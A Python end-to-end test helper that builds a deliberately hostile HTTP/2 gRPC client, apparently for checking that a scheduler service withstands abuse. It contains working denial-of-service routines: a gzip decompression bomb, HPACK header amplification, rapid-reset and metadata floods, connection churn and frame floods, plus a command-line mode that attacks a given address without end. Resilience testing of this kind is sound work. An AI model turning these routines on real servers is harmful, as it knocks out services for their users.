"""A gRPC peer that keeps to HTTP/2 only as far as it likes; no library would let it do so.

As a program (``python -m tests.e2e.hostile HOST:PORT ATTACK``) it attacks until it is stopped.
"""

from __future__ import annotations

import socket
import struct
import sys
import zlib
from types import TracebackType
from typing import Final, Self

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
ACK = END_STREAM = 1
END_HEADERS = 4
MIB: Final = 1 << 20

HEALTH: Final = "/grpc.health.v1.Health/Check"
REGISTER: Final = "/si.v1.Scheduler/RegisterResourceManager"
UPDATE: Final = "/si.v1.Scheduler/UpdateNode"

# Another address than that of well-behaved clients.
SOURCE: Final = "127.0.0.2"

GZIP: Final = {"grpc-encoding": "gzip"}


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def framed(message: bytes, *, compressed: bool = False) -> bytes:
    """A message as gRPC sends it."""
    return struct.pack(">BI", compressed, len(message)) + message


def bomb(size: int) -> bytes:
    """A compressed message that unpacks to ``size`` zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(bytes(MIB)) for _ in range(size // MIB)]
    return framed(b"".join(parts) + packer.flush(), compressed=True)


def _number(value: int) -> bytes:
    """A length in HPACK, with 7 bits in its first byte."""
    if value < 127:
        return bytes((value,))
    out, value = [127], value - 127
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes((*out, value))


def literal(name: str, value: str, *, kept: bool = False) -> bytes:
    """A header in HPACK; ``kept``: later ones may refer to it."""
    first = b"\x40" if kept else b"\x00"
    parts = (_number(len(name)), name.encode(), _number(len(value)), value.encode())
    return first + b"".join(parts)


def call_headers(path: str, more: dict[str, str] | None = None) -> bytes:
    """The headers of a call."""
    fixed = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "a"}
    fixed |= {"te": "trailers", "content-type": "application/grpc", **(more or {})}
    return b"".join(literal(name, value) for name, value in fixed.items())


class Peer:
    """One connection. ``ended``: streams that the server ended, and the last it said of them."""

    def __init__(self, address: str, *, seconds: float = 20.0) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection(
            (host, int(port)), seconds, source_address=(SOURCE, 0)
        )
        self.ended: dict[int, bytes] = {}
        self.streams_limit = 0
        self._received = b""
        self._next = 1
        self._room: dict[int, int] = {}
        self._room_first = self._room_all = 65_535
        try:
            self._greet()
        except OSError:
            self.socket.close()
            raise

    def _greet(self) -> None:
        """Send what opens a connection, and wait for the settings of the server."""
        wide = struct.pack(">HI", 4, 2**31 - 1)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, wide))
        while not self.streams_limit:
            self.read()

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self.socket.close()

    def open(self, headers: bytes, *, end: bool = False) -> int:
        """Open a stream, whether the server wants one more or not; ``headers``: below 16 KiB."""
        stream, self._next = self._next, self._next + 2
        self._room[stream] = self._room_first
        flags = END_HEADERS | (END_STREAM if end else 0)
        self.socket.sendall(frame(HEADERS, flags, stream, headers))
        return stream

    def reset(self, stream: int) -> None:
        """Give a stream up."""
        self.socket.sendall(frame(RESET, 0, stream, struct.pack(">I", 8)))

    def send(self, stream: int, data: bytes, *, end: bool = False) -> bool:
        """Send data as the server makes room; False: it ended the stream before."""
        sent = 0
        while sent < len(data) and stream not in self.ended:
            size = min(len(data) - sent, self._room_all, self._room[stream], 16_384)
            if size <= 0:
                self.read()
                continue
            last = end and sent + size == len(data)
            part = data[sent : sent + size]
            self.socket.sendall(frame(DATA, END_STREAM if last else 0, stream, part))
            self._room_all -= size
            self._room[stream] -= size
            sent += size
        return stream not in self.ended

    def answer(self, stream: int) -> bytes:
        """Wait until the server ended a stream; what it said last."""
        while stream not in self.ended:
            self.read()
        return self.ended[stream]

    def read(self) -> None:
        """Take in what the server sends. Raises: OSError when it closed the connection."""
        got = self.socket.recv(1 << 16)
        if not got:
            raise ConnectionResetError("closed by the server")
        self._received += got
        while len(self._received) >= 9:
            size = int.from_bytes(self._received[:3], "big")
            if len(self._received) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self._received[3:9])
            payload = self._received[9 : 9 + size]
            self._received = self._received[9 + size :]
            self._take(kind, flags, stream, payload)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self._settle(payload)
        elif kind == PING and not flags & ACK:
            self.socket.sendall(frame(PING, ACK, 0, payload))
        elif kind == WINDOW and stream:
            room = self._room.get(stream, self._room_first)
            self._room[stream] = room + int.from_bytes(payload, "big")
        elif kind == WINDOW:
            self._room_all += int.from_bytes(payload, "big")
        elif kind == RESET or (kind in (HEADERS, DATA) and flags & END_STREAM):
            self.ended.setdefault(stream, payload)

    def _settle(self, payload: bytes) -> None:
        self.streams_limit = self.streams_limit or 1 << 32
        for at in range(0, len(payload), 6):
            name, value = struct.unpack(">HI", payload[at : at + 6])
            if name == 3:
                self.streams_limit = value
            elif name == 4:
                for stream in self._room:
                    self._room[stream] += value - self._room_first
                self._room_first = value
        self.socket.sendall(frame(SETTINGS, ACK, 0))


def call_bombs(address: str, message: bytes) -> None:
    """Compressed calls that unpack to more than they weigh, 20 at a time."""
    with Peer(address) as peer:
        for _ in range(50):
            headers = call_headers(REGISTER, GZIP)
            streams = [peer.open(headers) for _ in range(20)]
            for stream in streams:
                peer.send(stream, message, end=True)
            for stream in streams:
                peer.answer(stream)


def flood_calls(address: str) -> None:
    """Calls with much metadata, as many at a time as the server says."""
    with Peer(address) as peer:
        headers = call_headers(UPDATE, {"x": "a" * 4_000})
        for _ in range(20):
            streams = [peer.open(headers, end=True) for _ in range(min(100, peer.streams_limit))]
            for stream in streams:
                peer.answer(stream)


def flood_headers(address: str, count: int = 3_000) -> None:
    """Headers of a few bytes that stand for 64 MB each."""
    with Peer(address) as peer:
        peer.open(call_headers(UPDATE) + literal("x", "a" * 3_900, kept=True))
        for _ in range(count):
            peer.open(call_headers(UPDATE) + b"\xbe" * 16_000)


def flood_resets(address: str) -> None:
    """Calls that are given up at once."""
    with Peer(address) as peer:
        headers = call_headers(UPDATE, {"x": "a" * 6_000})
        for _ in range(3_000):
            peer.reset(peer.open(headers))


def flood_connections(address: str) -> None:
    """Connections that come and go."""
    for _ in range(200):
        Peer(address).socket.close()


def flood_frames(address: str, name: str, count: int, seconds: float = 1.0) -> bool:
    """Send frames that cost nothing and are not wrong by themselves; return whether all may come.

    False: the server cut the connection, which it may do so many seconds later.
    """
    with Peer(address, seconds=seconds) as peer:
        part = b"".join([literal(f"x{number}", "a" * 900) for number in range(15)])
        kinds = {
            "pings": frame(PING, 0, 0, bytes(8)),
            "settings": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)),
            "continuations": frame(CONTINUATION, 0, 1, part),
            "windows": frame(WINDOW, 0, 0, struct.pack(">I", 1)),
        }
        try:
            if name == "continuations":
                peer.socket.sendall(frame(HEADERS, 0, 1, call_headers(UPDATE)))
            for _ in range(count // 100):
                peer.socket.sendall(kinds[name] * 100)
            while True:
                peer.read()
        except TimeoutError:
            return True
        except OSError:
            return False


def attack(address: str, name: str) -> None:
    """Attack without end, and say when it begins; what the server refuses is tried again."""
    message = bomb(60 * MIB)
    print(name, flush=True)
    while True:
        try:
            if name == "bombs":
                call_bombs(address, message)
            else:
                ATTACKS[name](address)
        except OSError:
            continue


ATTACKS: Final = {
    "calls": flood_calls,
    "headers": flood_headers,
    "resets": flood_resets,
    "connections": flood_connections,
}

if __name__ == "__main__":
    attack(sys.argv[1], sys.argv[2])
